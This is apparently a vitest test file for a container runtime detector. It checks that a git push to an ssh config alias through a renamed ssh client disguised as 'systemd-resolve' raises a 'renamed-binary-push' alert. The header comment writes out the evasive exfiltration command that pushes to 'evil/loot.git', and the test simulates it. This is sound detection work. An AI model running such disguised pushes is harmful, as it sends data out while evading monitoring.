/**
 * `git push` through a renamed ssh client to a `Host` alias of ssh's config (found by red-team review):
 * `GIT_SSH=/tmp/.x/systemd-resolve git push gh:evil/loot.git` runs `systemd-resolve gh "git-receive-pack
 * 'evil/loot.git'"`, and a target without a dot was not taken for an ssh host, so the renamed client went
 * unrecognised and the push was `low` where the same with `git@github.com` is `renamed-binary-push`.
 */
import { describe, expect, it } from 'vitest';
import { brief, run, Scenario } from './builder.js';

describe('git push over ssh to a config alias', () => {
  for (const source of ['tetragon', 'falco'] as const) {
    it(`a renamed ssh client is still found, the destination left to its connect (${source})`, () => {
      const s = new Scenario({ source });
      const c = s.container({ namespace: 'ci', pod: 'job-2', name: 'job' });
      const sh = s.init(c);
      const git = s.exec(c, '/usr/bin/git', 'push gh:evil/loot.git HEAD:main', { parent: sh });
      const ssh = s.exec(c, '/tmp/.x/systemd-resolve', 'gh "git-receive-pack \'evil/loot.git\'"', { parent: git });
      s.wait(20).connect(ssh, '140.82.112.4', 22).wait(10).send(ssh, '140.82.112.4', 22, 40_000);
      s.wait(300).exit(ssh).exit(git);
      const alerts = run(s.events).alerts;
      expect(brief(alerts)).toEqual([
        { rule: 'renamed-binary-push', severity: 'medium', tool: 'git', destination: '140.82.112.4:22' },
      ]);
      expect(alerts[0]!.summary).toContain('/tmp/.x/systemd-resolve');
    });
  }
});
